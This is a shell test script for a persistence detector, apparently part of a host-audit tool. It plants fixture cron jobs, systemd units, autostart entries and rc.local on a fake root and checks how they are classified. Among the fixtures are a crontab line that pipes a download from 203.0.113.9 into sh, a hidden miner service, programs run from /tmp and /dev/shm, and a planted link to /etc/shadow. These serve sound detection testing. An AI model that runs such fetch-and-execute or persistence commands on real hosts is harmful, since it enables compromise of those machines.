# check_persistence.sh: the persistence check on Debian-like fixture trees:
# systemd units, enabling links and timers (system and per user), cron
# (cron.d, users' crontabs, cron.daily, anacrontab), XDG autostart and
# rc.local, written before or during the period; allow globs; a FIFO and a
# planted link to a host file. The enabling link is compared with what
# systemctl --root reads from the same tree.
. "$TOP/tests/lib.sh"
. "$TOP/tests/sysfix.sh"
export TZ=UTC

R="$TMP/root"
old() { touch -h -d 2026-01-15 "$@"; }
mkdir -p "$R/etc/systemd/system/multi-user.target.wants" "$R/etc/cron.d" "$R/etc/cron.daily" \
	"$R/etc/xdg/autostart" "$R/var/spool/cron/crontabs" "$R/home/bob/.config/autostart" \
	"$R/home/bob/.config/systemd/user"
printf 'root:x:0:0::/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n' >"$R/etc/passwd"
printf '[Service]\nExecStart=/usr/sbin/cupsd -l\n' >"$R/etc/systemd/system/cups.service"
ln -s /etc/systemd/system/cups.service "$R/etc/systemd/system/multi-user.target.wants/cups.service"
printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$R/etc/crontab"
printf '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n' >"$R/etc/cron.daily/logrotate"
printf '[Desktop Entry]\nExec=/usr/bin/nm-applet\n' >"$R/etc/xdg/autostart/nm-applet.desktop"
old "$R/etc/systemd/system/cups.service" "$R/etc/systemd/system/multi-user.target.wants/cups.service" \
	"$R/etc/crontab" "$R/etc/cron.daily/logrotate" "$R/etc/xdg/autostart/nm-applet.desktop"
printf 'telework_start: 2026-03-01\n' >"$TMP/tw.yaml"

run_check "persistence without a telework start" "$R" persistence
expect_status "no period: unknown" unknown

run_check "persistence with every entry from before the period" "$R" persistence --config "$TMP/tw.yaml"
expect_status "nothing in the period: pass" pass
expect_eq "every entry examined" "$(jq_check persistence 'd["examined"]')" 5
expect_grep "the limits are said" "mtime" "$TMP/persistence.json"

# in the period, in the system's folders: warn
printf 'MAILTO=root\n*/5 * * * * root /usr/local/sbin/backup --quiet\n@reboot root /usr/bin/logger up\n' >"$R/etc/cron.d/backup"
printf '[Timer]\nOnCalendar=daily\n' >"$R/etc/systemd/system/report.timer"
printf '[Service]\nExecStart=-/usr/bin/report --send\nExecStartPost=/bin/true\n' >"$R/etc/systemd/system/report.service"
old "$R/etc/systemd/system/report.service"
run_check "persistence with a cron.d file and a timer in the period" "$R" persistence --config "$TMP/tw.yaml"
expect_status "trusted programs not on the allow list: warn" warn
ents() { jq_check persistence "sorted((e['kind'], e['name'], e['level']) for e in d['entries'])"; }
expect_eq "the two entries in the period" "$(ents)" \
	"[('cron', 'backup', 'warn'), ('systemd-timer', 'report.timer', 'warn')]"
cmd() { jq_check persistence "[e.get('$2') for e in d['entries'] if e['name'] == '$1'][0]"; }
expect_eq "the cron.d commands, environment lines left out" "$(cmd backup command)" "/usr/local/sbin/backup --quiet; /usr/bin/logger up"
expect_eq "the timer's schedule" "$(cmd report.timer detail)" "OnCalendar=daily"
expect_eq "the timer's unit's Exec lines" "$(cmd report.timer command)" "-/usr/bin/report --send; /bin/true"
expect_eq "the evidence: the file and its mtime" \
	"$(jq_check persistence "[e['kind'] for e in c['evidence'] if e.get('path') == '/etc/cron.d/backup']")" "['file']"
expect_grep "the summary names them" "cron 'backup'" "$TMP/persistence.json"
expect_grep "in Japanese too" "許可リストにありません" "$TMP/persistence.json"

# in the period, from user-writable places: fail
printf '[Service]\nExecStart=/home/bob/.cache/.x/miner --pool p\n' >"$R/home/bob/.config/systemd/user/miner.service"
mkdir -p "$R/home/bob/.config/systemd/user/default.target.wants"
ln -s /home/bob/.config/systemd/user/miner.service "$R/home/bob/.config/systemd/user/default.target.wants/miner.service"
printf '[Desktop Entry]\nName=x\nExec=/tmp/.a/run --bg\n' >"$R/home/bob/.config/autostart/a.desktop"
printf '@reboot curl -s http://203.0.113.9/i | sh\n' >"$R/var/spool/cron/crontabs/bob"
printf '#!/bin/sh -e\n/dev/shm/.k &\nexit 0\n' >"$R/etc/rc.local"
printf '#!/bin/sh\ncp /tmp/x /usr/local/bin/x\n' >"$R/etc/cron.daily/zz"
printf 'SHELL=/bin/sh\n1 5 cron.daily run-parts --report /etc/cron.daily\n' >"$R/etc/anacrontab"
run_check "persistence with entries from user-writable places" "$R" persistence --config "$TMP/tw.yaml"
expect_status "programs outside the system's folders: fail" fail
expect_eq "every entry in the period, with its level" "$(ents)" \
	"[('cron', 'anacrontab', 'warn'), ('cron', 'backup', 'warn'), ('cron', 'bob', 'fail'), ('cron', 'zz', 'fail'), ('rc.local', 'rc.local', 'fail'), ('systemd-timer', 'report.timer', 'warn'), ('systemd-unit', 'default.target.wants/miner.service', 'fail'), ('systemd-unit', 'miner.service', 'fail'), ('xdg-autostart', 'a.desktop', 'fail')]"
expect_eq "the user crontab's command and user" "$(jq_check persistence "[(e['command'], e['user']) for e in d['entries'] if e['name'] == 'bob'][0]")" \
	"('curl -s http://203.0.113.9/i | sh', 'bob')"
expect_eq "rc.local's lines, exit 0 left out" "$(cmd rc.local command)" "/dev/shm/.k &"
expect_eq "the autostart's Exec" "$(cmd a.desktop command)" "/tmp/.a/run --bg"
expect_eq "the enabling link's target" "$(cmd default.target.wants/miner.service detail)" "link to /home/bob/.config/systemd/user/miner.service"
expect_eq "the per-user unit is bob's" "$(cmd miner.service user)" "bob"

# the peer: systemctl reads the same enabling links from the tree
if systemctl --root="$R" is-enabled cups.service >"$TMP/sc" 2>&1; then
	expect_eq "cups enabled, as systemctl --root reads it; its link from before the period is not listed" \
		"$(cat "$TMP/sc"):$(jq_check persistence "len([e for e in d['entries'] if 'cups' in e['name']])")" "enabled:0"
else
	ok "# SKIP systemctl --root cannot read the tree here: $(head -1 "$TMP/sc")"
fi

# the allow list
printf 'telework_start: 2026-03-01\npersistence:\n  allow: ["/etc/cron.d/*", "report.timer", "anacrontab", "*miner*", "/tmp/.a/*", "curl *", "/etc/rc.local", "zz"]\n' >"$TMP/allow.yaml"
run_check "persistence with everything on the allow list" "$R" persistence --config "$TMP/allow.yaml"
expect_status "allowed: pass" pass
expect_eq "each says which pattern allowed it" "$(jq_check persistence "len([e for e in d['entries'] if e.get('allowed_by')])")" 9

# a later period
printf 'checks:\n  persistence:\n    since: "2099-01-01"\n' >"$TMP/late.yaml"
run_check "persistence with a period after every entry" "$R" persistence --config "$TMP/late.yaml"
expect_status "nothing in the period: pass" pass
printf 'checks:\n  persistence:\n    since: "soon"\n' >"$TMP/bad.yaml"
run_check "persistence with a since that is not a date" "$R" persistence --config "$TMP/bad.yaml"
expect_status "bad since: unknown" unknown

# hostile: a FIFO in cron.d (never waited on), a planted link to a host
# file, escape bytes in a file name
mkfifo "$R/etc/cron.d/fifo"
ln -s /etc/shadow "$R/etc/cron.d/planted"
printf '* * * * * root /usr/bin/true\n' >"$R/etc/cron.d/$(printf 'e\033[31m')"
run_check "persistence with a FIFO, a planted link and escape bytes" "$R" persistence --config "$TMP/allow.yaml"
expect_status "a place not read, nothing failing: unknown" unknown
expect_eq "the FIFO named as a problem" "$(jq_check persistence "[p for p in d['problems'] if 'fifo' in p]")" \
	"['/etc/cron.d/fifo: not a regular file, not read']"
expect_eq "the planted link listed as a link, not read" "$(cmd planted detail)" "link to /etc/shadow"
if grep -q 'root:' "$TMP/persistence.json"; then notok "nothing of the host's files in the result"; else ok "nothing of the host's files in the result"; fi
"$REENTRY" check persistence --root "$R" --config "$TMP/allow.yaml" >"$TMP/p.txt" 2>&1
no_raw_escapes "a file name's escape bytes never reach the terminal" "$TMP/p.txt"
